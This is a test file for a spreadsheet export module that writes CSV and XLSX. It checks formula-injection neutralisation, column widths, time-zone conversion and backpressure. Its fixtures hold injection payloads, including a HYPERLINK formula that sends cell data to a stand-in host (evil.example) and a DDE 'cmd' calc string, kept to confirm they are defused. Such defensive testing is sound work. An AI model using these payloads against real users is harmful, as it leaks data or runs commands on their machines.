import { rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { readZip, sheetCells, xmlText } from '../../../../test/helpers/zip.ts';
import { openTable } from './read.ts';
import {
  DestinationClosedError,
  displayWidth,
  headerWidth,
  neutraliseCell,
  restoreNeutralisedCell,
  wallClock,
  writeCsv,
  writeXlsx,
  type CellValue,
  type ExportColumn,
} from './write.ts';

/** A Writable that keeps what it is given; `delay` ms per write makes it a slow client. */
function sink(options: { delay?: number; highWaterMark?: number } = {}) {
  const chunks: Buffer[] = [];
  let maxBuffered = 0;
  const stream = new Writable({
    highWaterMark: options.highWaterMark ?? 16 * 1024,
    write(chunk: Buffer, _encoding, callback) {
      chunks.push(chunk);
      maxBuffered = Math.max(maxBuffered, stream.writableLength);
      if (options.delay) setTimeout(callback, options.delay);
      else callback();
    },
  });
  return { stream, bytes: () => Buffer.concat(chunks), maxBuffered: () => maxBuffered };
}

/** A Writable that takes nothing until it is destroyed: a client that stopped reading. */
function stalled() {
  return new Writable({
    highWaterMark: 16 * 1024,
    write() {
      // never calls back
    },
  });
}

const COLUMNS: ExportColumn[] = [
  { key: 'name', header: '客户名称' },
  { key: 'phone', header: '手机' },
  { key: 'createdAt', header: '创建时间' },
  { key: 'firstContact', header: '首次接触', date: 'date' },
  { key: 'amount', header: 'Amount' },
  { key: 'vip', header: 'VIP' },
];

const ROWS: Record<string, CellValue>[] = [
  {
    name: '=HYPERLINK("http://evil.example/?"&A2,"点击")',
    phone: '13812345678',
    createdAt: new Date('2024-03-05T01:30:00Z'),
    firstContact: '2024-02-01',
    amount: -500,
    vip: true,
  },
  { name: '上海华信, "精密" 机械\n有限公司', phone: 13812345678, createdAt: null, firstContact: new Date('2024-02-02T00:00:00Z'), amount: 0.1 + 0.2, vip: false },
  { name: '-1+1', phone: '+86 138 1234 5678', createdAt: undefined, firstContact: 'soon', amount: 1e21, vip: null },
  { name: '@SUM(A1)', phone: '\t13800000000', createdAt: new Date(Number.NaN), firstContact: null, amount: Number.NaN, vip: undefined },
];

async function* slowly<T>(rows: Iterable<T>): AsyncGenerator<T> {
  for (const row of rows) {
    await Promise.resolve();
    yield row;
  }
}

describe('neutraliseCell', () => {
  it('prefixes text that a spreadsheet would evaluate as a formula', () => {
    for (const text of ['=1+1', '+86 138', '-500', '@SUM(A1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0']) expect(neutraliseCell(text)).toBe(`'${text}`);
  });

  it('leaves other text alone', () => {
    for (const text of ['上海华信', '1-2', ' =1', '', "'=1", '13812345678', 'a=b', '＝1']) expect(neutraliseCell(text)).toBe(text);
  });

  it('can be undone on a value read back', () => {
    for (const text of ['=1+1', '-500', '上海', "'quoted"]) expect(restoreNeutralisedCell(neutraliseCell(text))).toBe(text);
  });
});

describe('column widths', () => {
  it('count Chinese characters double and stay between 10 and 50', () => {
    expect(displayWidth('客户名称')).toBe(8);
    expect(displayWidth('VIP客户')).toBe(7);
    expect(displayWidth('𠀀')).toBe(2);
    expect(headerWidth('客户名称')).toBe(12);
    expect(headerWidth('ID')).toBe(10);
    expect(headerWidth('统一社会信用代码'.repeat(5))).toBe(50);
  });
});

describe('wallClock', () => {
  it('moves an instant to the wall-clock time of a zone', () => {
    expect(wallClock(new Date('2024-03-05T16:30:00Z'), 'Asia/Shanghai').toISOString()).toBe('2024-03-06T00:30:00.000Z');
    expect(wallClock(new Date('2024-07-01T12:00:00Z'), 'America/New_York').toISOString()).toBe('2024-07-01T08:00:00.000Z');
    expect(wallClock(new Date('2024-03-05T16:30:00.250Z'), 'UTC').toISOString()).toBe('2024-03-05T16:30:00.250Z');
  });

  it('follows daylight-saving changes to the minute, and keeps milliseconds (offsets are cached per quarter hour)', () => {
    // New York springs forward at 07:00 UTC on 2024-03-10 (02:00 EST becomes 03:00 EDT).
    expect(wallClock(new Date('2024-03-10T06:59:59.999Z'), 'America/New_York').toISOString()).toBe('2024-03-10T01:59:59.999Z');
    expect(wallClock(new Date('2024-03-10T07:00:00.000Z'), 'America/New_York').toISOString()).toBe('2024-03-10T03:00:00.000Z');
    expect(wallClock(new Date('2024-03-10T06:59:59.999Z'), 'America/New_York').toISOString()).toBe('2024-03-10T01:59:59.999Z');
    // A zone with a 45-minute offset.
    expect(wallClock(new Date('2024-01-01T00:00:00.123Z'), 'Asia/Kathmandu').toISOString()).toBe('2024-01-01T05:45:00.123Z');
    expect(wallClock(new Date('2024-01-01T00:14:59Z'), 'Asia/Kathmandu').toISOString()).toBe('2024-01-01T05:59:59.000Z');
  });
});

describe('writeCsv', () => {
  it('writes UTF-8 with BOM, CRLF, RFC 4180 quoting, neutralised text and local times', async () => {
    const out = sink();
    const result = await writeCsv(out.stream, COLUMNS, slowly(ROWS), { timeZone: 'Asia/Shanghai' });
    expect(result).toEqual({ rows: 4 });
    const bytes = out.bytes();
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(
      [
        '客户名称,手机,创建时间,首次接触,Amount,VIP',
        `"'=HYPERLINK(""http://evil.example/?""&A2,""点击"")",13812345678,2024-03-05 09:30:00,2024-02-01,-500,TRUE`,
        '"上海华信, ""精密"" 机械\n有限公司",13812345678,,2024-02-02,0.30000000000000004,FALSE',
        "'-1+1,'+86 138 1234 5678,,soon,1000000000000000000000,",
        "'@SUM(A1),'\t13800000000,,,,",
        '',
      ].join('\r\n'),
    );
    expect(out.stream.writableFinished).toBe(true);
  });

  it('writes only the header for no rows', async () => {
    const out = sink();
    await writeCsv(out.stream, [{ key: 'a', header: '=A' }], []);
    expect(out.bytes().toString('utf8')).toBe("\ufeff'=A\r\n");
  });

  it('reads back with the tabular reader as written', async () => {
    const out = sink();
    await writeCsv(out.stream, COLUMNS, ROWS, { timeZone: 'Asia/Shanghai' });
    const path = join(tmpdir(), `kehu-write-${process.pid}-${Date.now()}.csv`);
    await writeFile(path, out.bytes());
    const table = await openTable(path, { maxRows: 10, maxBytes: 1_000_000 });
    const rows = [];
    for await (const row of table.rows) rows.push({ ...row.values });
    await rm(path);
    expect(table.encoding).toBe('utf-8');
    expect(table.headers).toEqual(COLUMNS.map((c) => c.header));
    expect(rows[1]).toEqual({ 客户名称: '上海华信, "精密" 机械\n有限公司', 手机: '13812345678', 创建时间: '', 首次接触: '2024-02-02', Amount: '0.30000000000000004', VIP: 'FALSE' });
  });

  it('waits for a slow destination instead of buffering', async () => {
    const out = sink({ delay: 1, highWaterMark: 16 * 1024 });
    const rows = Array.from({ length: 20_000 }, (_, i) => ({ name: `上海华信精密机械有限公司${i}`, phone: '13812345678' }));
    await writeCsv(out.stream, COLUMNS, rows);
    // At most one chunk (64 K characters, up to 3 bytes each) beyond the high-water mark is ever queued.
    expect(out.maxBuffered()).toBeLessThan(16 * 1024 + 3 * 64 * 1024);
    expect(out.bytes().toString('utf8').split('\r\n')).toHaveLength(20_002);
  });

  it('stops reading rows and fails when the destination closes', async () => {
    const dest = stalled();
    let pulled = 0;
    const rows = (function* () {
      for (;;) {
        pulled++;
        yield { name: '上海华信精密机械有限公司', phone: '13812345678' };
      }
    })();
    const writing = writeCsv(dest, COLUMNS, rows);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(pulled).toBeLessThan(5_000); // one 64 KB chunk, then it waits
    dest.destroy();
    await expect(writing).rejects.toBeInstanceOf(DestinationClosedError);
  });
});

interface XlsxParts {
  sheet: string;
  styles: string;
  workbook: string;
  strings: string[];
}

async function writeToParts(columns: ExportColumn[], rows: Iterable<Record<string, CellValue>> | AsyncIterable<Record<string, CellValue>>, sheetName?: string): Promise<XlsxParts> {
  const out = sink();
  await writeXlsx(out.stream, columns, rows, { timeZone: 'Asia/Shanghai', sheetName });
  const zip = readZip(out.bytes());
  const strings = [...(zip.get('xl/sharedStrings.xml')?.toString('utf8') ?? '').matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) =>
    [...(m[1] ?? '').matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => xmlText(t[1] ?? '')).join(''),
  );
  return {
    sheet: zip.get('xl/worksheets/sheet1.xml')?.toString('utf8') ?? '',
    styles: zip.get('xl/styles.xml')?.toString('utf8') ?? '',
    workbook: zip.get('xl/workbook.xml')?.toString('utf8') ?? '',
    strings,
  };
}

/** The number format code and boldness of a cell style index, read from styles.xml by hand. */
function styleOf(styles: string, index: number): { format: string; bold: boolean } {
  const xfs = [...(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '').matchAll(/<xf\b[^>]*>/g)].map((m) => m[0]);
  const xf = xfs[index] ?? '';
  const numFmtId = /numFmtId="(\d+)"/.exec(xf)?.[1] ?? '0';
  const fontId = Number(/fontId="(\d+)"/.exec(xf)?.[1] ?? 0);
  const formats = new Map([...styles.matchAll(/<numFmt numFmtId="(\d+)" formatCode="([^"]*)"/g)].map((m) => [m[1], xmlText(m[2] ?? '')]));
  const fonts = [...(/<fonts[^>]*>([\s\S]*?)<\/fonts>/.exec(styles)?.[1] ?? '').matchAll(/<font>([\s\S]*?)<\/font>/g)].map((m) => m[1] ?? '');
  return { format: formats.get(numFmtId) ?? `builtin:${numFmtId}`, bold: /<b\/>/.test(fonts[fontId] ?? '') };
}

describe('writeXlsx', () => {
  it('writes a bold, frozen, filtered header with widths from the headers, read back with an independent unzip', async () => {
    const parts = await writeToParts(COLUMNS, ROWS, '客户导出');
    const rows = sheetCells(parts.sheet, parts.strings);
    expect(rows[0]?.map((c) => c.value)).toEqual(['客户名称', '手机', '创建时间', '首次接触', 'Amount', 'VIP']);
    for (const cell of rows[0] ?? []) expect(styleOf(parts.styles, cell.style).bold).toBe(true);
    expect(parts.sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(parts.sheet).toContain('<autoFilter ref="A1:F1"/>');
    expect(parts.sheet).toContain('<col min="1" max="1" width="12" customWidth="1"/>');
    expect(parts.workbook).toMatch(/<sheet [^>]*name="客户导出"/);
  });

  it('keeps text as text (no 1.38E+10), numbers as numbers, and neutralises formulas', async () => {
    const parts = await writeToParts(COLUMNS, ROWS);
    const [, first, second, third, fourth] = sheetCells(parts.sheet, parts.strings);
    // The phone as text stays a text cell; the phone as a number keeps every digit.
    expect(first?.[1]).toMatchObject({ ref: 'B2', value: '13812345678' });
    expect(first?.[1]?.type).toMatch(/^(s|str|inlineStr)$/);
    expect(second?.[1]).toMatchObject({ ref: 'B3', type: '', value: '13812345678' });
    // Injection: text starting with = + - @ or tab gets an apostrophe; the sheet holds no formula at all.
    expect(first?.[0]?.value).toBe(`'=HYPERLINK("http://evil.example/?"&A2,"点击")`);
    expect(third?.[0]?.value).toBe("'-1+1");
    expect(third?.[1]?.value).toBe("'+86 138 1234 5678");
    expect(fourth?.[0]?.value).toBe("'@SUM(A1)");
    expect(fourth?.[1]?.value).toBe("'\t13800000000");
    expect(parts.sheet).not.toMatch(/<f[ >]/);
    // A negative number written as a number is a number, untouched.
    expect(first?.[4]).toMatchObject({ ref: 'E2', type: '', value: '-500' });
    expect(first?.[5]).toMatchObject({ ref: 'F2', type: 'b', value: '1' });
    expect(second?.[0]?.value).toBe('上海华信, "精密" 机械\n有限公司');
  });

  it('writes dates as real date cells: wall-clock time in the zone, calendar dates as they are', async () => {
    const parts = await writeToParts(COLUMNS, ROWS);
    const cells = new Map(sheetCells(parts.sheet, parts.strings).flat().map((c) => [c.ref, c]));
    const createdAt = cells.get('C2');
    // 2024-03-05 09:30 in Shanghai: day 45356 since 1899-12-30, plus 9.5 hours.
    expect(createdAt?.type).toBe('');
    expect(Number(createdAt?.value)).toBeCloseTo(45356 + 9.5 / 24, 8);
    expect(styleOf(parts.styles, createdAt?.style ?? 0).format).toBe('yyyy-mm-dd hh:mm:ss');
    expect(cells.get('D2')).toMatchObject({ type: '', value: '45323' });
    expect(styleOf(parts.styles, cells.get('D2')?.style ?? 0).format).toBe('yyyy-mm-dd');
    expect(cells.get('D3')).toMatchObject({ type: '', value: '45324' });
    // Empty values and invalid dates leave the cell out; a non-date string in a date column stays text.
    expect(cells.has('C3')).toBe(false);
    expect(cells.has('C5')).toBe(false);
    expect(cells.get('D4')?.value).toBe('soon');
  });

  it('reads back with the tabular reader as the user sees it', async () => {
    const out = sink();
    await writeXlsx(out.stream, COLUMNS, ROWS, { timeZone: 'Asia/Shanghai' });
    const table = await openTable(Readable.from([out.bytes()], { objectMode: false }), { maxRows: 10, maxBytes: 1_000_000 });
    const rows = [];
    for await (const row of table.rows) rows.push({ ...row.values });
    expect(table.type).toBe('xlsx');
    expect(rows).toEqual([
      { 客户名称: `'=HYPERLINK("http://evil.example/?"&A2,"点击")`, 手机: '13812345678', 创建时间: '2024-03-05T09:30:00', 首次接触: '2024-02-01', Amount: '-500', VIP: 'TRUE' },
      { 客户名称: '上海华信, "精密" 机械\n有限公司', 手机: '13812345678', 创建时间: '', 首次接触: '2024-02-02', Amount: '0.3', VIP: 'FALSE' },
      { 客户名称: "'-1+1", 手机: "'+86 138 1234 5678", 创建时间: '', 首次接触: 'soon', Amount: '1000000000000000000000', VIP: '' },
      { 客户名称: "'@SUM(A1)", 手机: "'\t13800000000", 创建时间: '', 首次接触: '', Amount: '', VIP: '' },
    ]);
  });

  it('throttles reading rows while the destination does not take the file, and fails when it closes', async () => {
    const dest = stalled();
    let pulled = 0;
    const rows = (async function* () {
      for (let i = 0; ; i++) {
        pulled++;
        yield { name: `上海华信精密机械有限公司${i}`, phone: `138${String(i).padStart(8, '0')}`, amount: i };
        if (i % 100 === 0) await Promise.resolve();
      }
    })();
    const writing = writeXlsx(dest, COLUMNS, rows);
    // Once the destination and the zip stream's buffers are full, no more rows are read.
    let before = -1;
    for (let i = 0; i < 15 && pulled !== before; i++) {
      before = pulled;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    expect(pulled).toBe(before);
    expect(pulled).toBeLessThan(20_000);
    dest.destroy();
    await expect(writing).rejects.toBeInstanceOf(DestinationClosedError);
  });
});
